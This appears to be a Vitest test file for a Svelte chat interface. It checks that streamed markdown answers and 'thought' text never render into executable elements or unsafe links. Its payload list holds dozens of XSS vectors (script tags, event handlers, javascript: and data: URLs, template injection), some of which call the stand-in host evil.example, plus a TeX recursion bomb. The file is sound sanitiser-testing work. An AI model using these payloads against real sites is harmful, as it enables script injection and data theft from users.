// @vitest-environment jsdom
// Hostile texts, as answers and as thoughts, as they come in pieces: nothing of them ever becomes an element, an
// attribute or an address that runs or loads something. The tree of nodes is looked at with every character that
// comes, the page with every 16th, or with every one where VITE_LONG is set.
import { flushSync, mount, unmount } from "svelte";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import type { MarkdownNode } from "../lib/markdown";
import { MarkdownStream } from "../lib/markdown_stream";
import { ThoughtSteps } from "../lib/thought";
import Markdown from "./Markdown.svelte";
import Thought from "./Thought.svelte";

const VECTORS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href='javascript:alert(1)'>a</a>",
  "<style>*{background:url(//evil.example/a)}</style>",
  "<link rel=stylesheet href=//evil.example/a>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example>",
  "<form action=//evil.example><button>a</button></form>",
  "<math><mtext><style><img src onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "</div></p><script src=//evil.example/a.js></script>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](java\tscript:alert(1))",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](vbscript:a)",
  "[a](<javascript:alert(1)>)",
  "[a](//evil.example/a)",
  "[a](https://evil.example/\"onmouseover=alert(1))",
  "![a](https://evil.example/a.png)",
  "![a](data:image/svg+xml,<svg onload=alert(1)>)",
  "![a](https://evil.example/\" onerror=\"alert(1))",
  "[![a](https://evil.example/a.png)](javascript:alert(1))",
  "<javascript:alert(1)>",
  "[a][b]\n\n[b]: javascript:alert(1)",
  "\\href{javascript:alert(1)}{a}",
  "\\includegraphics{https://evil.example/a.png}",
  "\\htmlStyle{background:url(//evil.example)}{a}",
  "\\def\\a{\\a\\a}\\a",
  "{{constructor.constructor('alert(1)')()}}",
  "{@html '<img src=x onerror=alert(1)>'}",
  String.fromCharCode(0x202e) + "javascript:alert(1)\u0000<img src=x onerror=alert(1)>",
];

const CONTEXTS: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `**${vector}** *${vector}`,
  (vector) => `- ${vector}\n- [ ] ${vector}`,
  (vector) => `> ${vector}`,
  (vector) => `# ${vector}`,
  (vector) => `|a|b|\n|-|-|\n|${vector}|${vector}|`,
  (vector) => `\`${vector}\``,
  (vector) => `\`\`\`${vector}\n${vector}\n\`\`\``,
  (vector) => `\`\`\`mermaid\ngraph TD; A[${vector}]\n\`\`\``,
  (vector) => `$${vector}$ \\(${vector}\\)`,
  (vector) => `$$\n${vector}\n$$`,
  (vector) => `[${vector}](https://a.b)`,
  (vector) => `![${vector}](https://a.b "${vector}")`,
  (vector) => `<think>${vector}</think>`,
];

const ELEMENTS = new Set(
  ("div section nav ol ul li p h3 h4 h5 h6 blockquote table thead tbody tr th td strong em s code pre span br hr a " +
    "input figure figcaption button").split(" "),
);
const ATTRIBUTES = new Set(
  ("class id dir role tabindex start href target rel type disabled checked hidden aria-label aria-busy aria-expanded " +
    "aria-controls aria-hidden").split(" "),
);

const SAFE_LINK = /^(https?:\/\/|mailto:)/;

function expect_harmless(root: HTMLElement): void {
  for (const element of root.querySelectorAll("*")) {
    const name = element.localName;
    // What KaTeX draws has a few more elements, and styles that it computes from sizes.
    if (element.closest(".katex")) {
      expect(["script", "img", "iframe", "a", "style", "link", "object", "foreignobject"]).not.toContain(name);
      for (const { name: key, value } of element.attributes) {
        expect(key).not.toMatch(/^on|href|src/);
        expect(value).not.toMatch(/url\(/);
      }
      continue;
    }
    if (!ELEMENTS.has(name)) expect.fail(`an element ${name}`);
    for (const { name: key, value } of element.attributes) {
      if (!ATTRIBUTES.has(key)) expect.fail(`an attribute ${key} of ${name}`);
      if (key === "href" && !SAFE_LINK.test(value)) expect.fail(`a link to ${value}`);
    }
    if (name === "a") expect(element.getAttribute("rel")).toBe("noopener noreferrer");
  }
}

// Frames come when the test asks for them.
let frames: FrameRequestCallback[] = [];
function draw(): void {
  flushSync();
  for (const frame of frames.splice(0)) frame(0);
  flushSync();
}

beforeEach(() => {
  vi.stubGlobal("requestAnimationFrame", (frame: FrameRequestCallback) => frames.push(frame));
  vi.stubGlobal("cancelAnimationFrame", () => undefined);
});
afterEach(() => {
  vi.unstubAllGlobals();
  frames = [];
});

const kDrawnEvery = import.meta.env["VITE_LONG"] ? 1 : 16;

function expect_safe_links(nodes: MarkdownNode[]): void {
  for (const node of nodes) {
    if (node.kind === "link" && !SAFE_LINK.test(node.url)) expect.fail(`a link to ${node.url}`);
    if ("children" in node) expect_safe_links(node.children);
  }
}

describe.each(VECTORS)("%j", (vector) => {
  const texts = CONTEXTS.map((context) => context(vector));

  it.each(texts)("is harmless in the tree at every end of %j", (text) => {
    const stream = new MarkdownStream();
    const thought = new ThoughtSteps();
    for (let end = 1; end <= text.length; ++end) {
      for (const block of stream.update(text.slice(0, end), true)) expect_safe_links(block.nodes);
      const steps = thought.update(text.slice(0, end), true);
      if (steps.some((step) => /<\/?think(ing)?>/.test(step.text))) expect.fail(`a mark of thoughts at ${end}`);
    }
    for (const block of stream.update(text, false)) expect_safe_links(block.nodes);
  });

  it.each(texts)("is harmless in the page as %j", async (text) => {
    for (const component of [Markdown, Thought]) {
      const props = $state({ text: "", streaming: true });
      const shown = mount(component as typeof Markdown, { target: document.body, props });
      for (let end = 1 + (text.length % kDrawnEvery); end < text.length; end += kDrawnEvery) {
        props.text = text.slice(0, end);
        draw();
        expect_harmless(document.body);
      }
      props.text = text;
      props.streaming = false;
      draw();
      await vi.dynamicImportSettled();
      draw();
      expect_harmless(document.body);
      await unmount(shown);
      expect(document.body.childElementCount).toBe(0);
    }
  });
});
